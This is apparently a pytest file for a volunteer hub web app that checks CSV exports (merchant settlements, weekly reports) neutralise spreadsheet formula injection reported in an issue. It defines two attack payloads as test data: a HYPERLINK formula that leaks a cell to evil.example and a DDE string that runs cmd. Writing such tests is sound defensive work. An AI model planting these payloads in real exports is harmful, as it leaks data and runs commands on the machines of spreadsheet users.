"""What an attacker tried on the landed app (issue #16), one test (or more) per finding."""
import csv
import io

from tests.merchants.test_merchants import shop  # noqa: F401  (fixture)
from tests.test_pages import login
from tests.vouchers.test_vouchers import haircut, owner_of  # noqa: F401  (fixtures)
from volunteer_hub.extensions import db
from volunteer_hub.merchants import services as merchants
from volunteer_hub.nodes import services as nodes
from volunteer_hub.vouchers import services as vouchers

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


# 1. Formula injection in exports ------------------------------------------------------------------

def test_a_formula_in_an_offer_title_is_text_in_the_settlement(app, world, haircut):  # noqa: F811
    offer = merchants.create_offer(owner_of(haircut), haircut.merchant, title=HYPERLINK, price=5)
    voucher = vouchers.create(world.volunteer, offer)
    vouchers.confirm(owner_of(haircut), voucher.code, "127.0.0.1")
    db.session.commit()
    staff = login(app.test_client(), owner_of(haircut))
    rows = cells(staff.get(f"/merchants/{haircut.merchant_id}/settlement.csv"))
    assert rows[1][2] == "'" + HYPERLINK
    assert rows[-1][3] == "5"  # numbers stay numbers


def test_a_formula_in_a_node_name_is_text_in_the_weekly_report(app, world):
    nodes.create_node(world.admin, name=DDE, kind="station", parent_id=world.i2.id)
    db.session.commit()
    admin = login(app.test_client(), world.centre_admin)
    rows = cells(admin.get(f"/centres/{world.centre.id}/reports/weekly.csv"))
    names = [row[1] for row in rows[1:]]
    assert "'" + DDE in names and DDE not in names
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
